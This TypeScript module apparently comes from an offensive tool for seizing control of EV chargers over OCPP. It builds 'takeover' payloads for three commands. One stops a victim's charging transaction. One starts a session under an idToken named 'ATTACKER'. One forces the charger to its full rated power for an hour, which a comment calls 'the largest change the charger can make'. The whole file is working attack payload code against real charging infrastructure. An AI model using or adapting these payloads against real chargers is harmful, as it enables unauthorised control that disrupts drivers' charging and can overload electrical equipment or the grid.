import { inHours, plus, watts, type Instant } from '@interlock/kernel'
import { toChargingProfile } from '@interlock/power'
import type { TakeoverAction, Target } from './takeover.ts'

/** What each command asks for: the largest change the charger can make, now. */
const payloads: Readonly<
  Record<TakeoverAction, (target: Target, now: Instant) => Record<string, unknown>>
> = {
  RequestStopTransaction: (target) => ({ transactionId: target.transactionId ?? 'none' }),
  RequestStartTransaction: () => ({
    remoteStartId: 1,
    evseId: 1,
    idToken: { idToken: 'ATTACKER', type: 'Central' },
  }),
  SetChargingProfile: (target, now) => ({
    evseId: 1,
    chargingProfile: toChargingProfile(
      {
        from: now,
        until: plus(now, inHours(1)),
        periods: [{ from: now, limitWatts: watts(target.ratingWatts) }],
      },
      { id: 666, stackLevel: 8, purpose: 'TxDefaultProfile' },
    ),
  }),
}

export const fromPlan = (
  action: TakeoverAction,
  target: Target,
  now: Instant,
): Record<string, unknown> => payloads[action](target, now)
